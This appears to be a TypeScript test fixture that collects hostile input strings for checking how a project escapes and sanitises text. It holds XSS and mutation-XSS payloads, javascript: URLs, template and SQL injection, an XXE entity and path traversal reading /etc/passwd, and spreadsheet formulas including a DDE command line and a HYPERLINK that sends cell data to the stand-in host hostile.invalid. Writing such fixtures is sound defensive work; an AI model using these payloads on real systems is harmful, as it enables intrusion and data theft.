/**
 * Strings that are something else than text to whoever takes them for HTML, a script, Markdown, XML, a formula, a query, a
 * path or the name of a property. Those that would run set `hostileRan`; those that would load ask `hostile.invalid`.
 */
const run = 'globalThis.hostileRan=1'
const elsewhere = 'hostile.invalid'

const html = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=http://${elsewhere}/x.js></SCRIPT>`,
  `<img src=x onerror=${run}>`,
  `<img src="http://${elsewhere}/pixel.png" srcset="//${elsewhere}/2 2x">`,
  `<svg onload=${run}><use href="http://${elsewhere}/a.svg#b"/></svg>`,
  `<svg><a><animate attributeName=href values=javascript:${run} /><text y=9>press</text></a></svg>`,
  `<iframe srcdoc="<script>parent.hostileRan=1</script>"></iframe>`,
  `<object data="javascript:${run}"></object><embed src="//${elsewhere}/e">`,
  `<meta http-equiv=refresh content="0;url=http://${elsewhere}/"><base href="//${elsewhere}/">`,
  `<link rel=stylesheet href=http://${elsewhere}/x.css><style>@import '//${elsewhere}/y.css';</style>`,
  `<details open ontoggle=${run}><summary>x`,
  `<input autofocus onfocus=${run}><body onload=${run}>`,
  `<video><source onerror=${run}></video><audio src=x onerror=${run}>`,
  `<a href="javascript:${run}">press</a>`,
  `<form action="http://${elsewhere}/"><button formaction="javascript:${run}">`,
  `"></option></title></textarea></style><script>${run}</script>`,
] as const

/** What becomes another thing when it is parsed, written and parsed again. */
const mutating = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  `<template><s><template><s><img src=x onerror=${run}>x</s></template>`,
  `<!--><img src=x onerror=${run}>--!><img src=x onerror=${run}>`,
] as const

const attributes = [
  `" onmouseover="${run}" x="`,
  `' autofocus onfocus='${run}`,
  `\` onclick=\`${run}`,
  `x" style="background:url(//${elsewhere}/s)`,
] as const

const addresses = [
  `javascript:${run}`,
  `JaVa\tScRiPt:${run}`,
  `\u0001javascript:${run}//http://a.example/`,
  `data:text/html,<script>${run}</script>`,
  `//${elsewhere}/a`,
  `\\\\${elsewhere}\\share\\a`,
  'file:///etc/passwd',
] as const

const markdown = [
  `[press](javascript:${run})`,
  `![seen](http://${elsewhere}/m.png)`,
  `<javascript:${run}>`,
  `[press]: data:text/html;base64,PHNjcmlwdD4=\n\n[press] &lt;b&gt; <b onclick=${run}>bold</b>`,
] as const

const templates = [
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `#{7*7}{7*7}[[7*7]]%s%n%7$x`,
  `\\u003cscript\\u003e${run}\\x3c/script\\x3e`,
] as const

const xml = [
  ']]>',
  `<![CDATA[<b>]]]]><![CDATA[>]]><script>${run}</script>`,
  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  `<xi:include href="http://${elsewhere}/x"/><?xml-stylesheet href="//${elsewhere}"?>`,
  '<?php echo 1 ?> -- > --> <!-- &b; &amp;lt; &#x3C;script&#x3E; &#0; &nbsp &lol9;',
  '</p></body></text></TEI><tei:p xmlns:tei="x">',
] as const

const formulas = [
  `=HYPERLINK("http://${elsewhere}/?"&A1,"x")`,
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1,1)',
  '+1+1',
  '＝1+1',
  "'=1+1",
  '";=1+1;"',
] as const

const datasets = [
  "'; DROP TABLE documents; --",
  '" OR ""="',
  '"},{"id":"x","label":"claim"}]}',
  '\\',
  '\\"',
  '-DOCSTART- -X- O O',
  '# newdoc id = x',
  'T1 Claim 0 1 x',
] as const

const names = [
  '__proto__',
  'constructor',
  'toString',
  '../../../../etc/passwd',
  '..\\..\\x.html',
  'C:\\Windows\\win.ini',
  'CON',
  '.htaccess',
  'a.html',
  '~/.ssh/id',
] as const

/** What looks like something else, or turns round what stands beside it. */
const looks = [
  '\u202Egnp.exe\u202C and <b>\u202E>tpircs<',
  '\u2066\u2067\u2068isolates without end',
  'joined\u200B\u2060\u00ADup\uFEFF',
  'Z\u0335\u0321\u0337a\u0300\u0301\u0302\u0303lgo',
  'раypаl and 𝖇𝖔𝖑𝖉 ＜script＞',
] as const

/** Characters that no screen shows and some formats cannot hold. */
const controls = [
  `a\u0000b <scr\u0000ipt>${run}</scr\u0000ipt>`,
  'bell\u0007 escape\u001B]0;title\u0007\u001B[31m back\u0008space',
  'separators\u2028\u2029\u0085\u000B\u000C\uFFFE\uFFFF',
] as const

/** For any text field: in one line. */
const lines: readonly string[] = [
  ...html,
  ...mutating,
  ...attributes,
  ...addresses.map((each) => each.replace('\t', '')),
  ...markdown.map((each) => each.replaceAll('\n\n', ' ')),
  ...templates,
  ...xml,
  ...formulas,
  ...datasets,
  ...names,
  ...looks,
]

/** Strings to fill a project with. */
export type Words = {
  /** Of any length, with any characters. */
  readonly strings: readonly string[]
  /** Of one line each. */
  readonly lines: readonly string[]
  /** In Markdown. */
  readonly guideline: string
}

export const hostileWords: Words = {
  strings: [
    ...lines,
    ...addresses,
    ...markdown,
    ...controls,
    `${'<b>'.repeat(7000)}${html[0]}`,
    `e${'\u0301'.repeat(3000)}`,
  ],
  lines,
  guideline: [...markdown, ...html, ...mutating, ...addresses].join('\n\n'),
}
